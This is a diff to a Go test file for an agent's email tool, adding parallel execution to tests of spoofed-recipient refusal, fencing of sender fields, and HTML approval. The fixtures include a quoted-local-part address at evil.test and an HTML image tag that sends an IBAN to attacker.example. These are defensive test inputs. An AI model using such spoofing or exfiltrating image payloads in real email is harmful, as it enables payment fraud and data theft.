@@ -19,6 +19,7 @@ import (
 // takes a recipient refuses it, naming the real domain, before any request
 // file is written.
 func TestQuotedLocalPartRefused(t *testing.T) {
+	t.Parallel()
 	e := newEmailEnv(t, false, nil)
 	const evil = `"ceo@mycompany.com"@evil.test`
 	for _, args := range []map[string]any{
@@ -95,6 +96,7 @@ var senderTextTools = func() map[string]bool {
 // listed and sent, in DEV_MODE and not: in every answer, each planted
 // token is inside a fence, and none is outside.
 func TestEverySenderFieldFenced(t *testing.T) {
+	t.Parallel()
 	for _, e := range inventory {
 		if e.Set != config.ToolsEmail {
 			continue
@@ -197,6 +199,7 @@ func TestEverySenderFieldFenced(t *testing.T) {
 // the agent, list every link and flag the one whose text is another
 // address. The approval binds the HTML that is sent.
 func TestHTMLApproverSeesWhatIsSent(t *testing.T) {
+	t.Parallel()
 	e := newEmailEnv(t, false, nil)
 	withImage := map[string]any{"to": "alice@example.com", "subject": "Invoice", "body_format": "html",
 		"body": `<p>Please pay.</p><img src="https://attacker.example/p.png?d=IBAN-DE89">`}
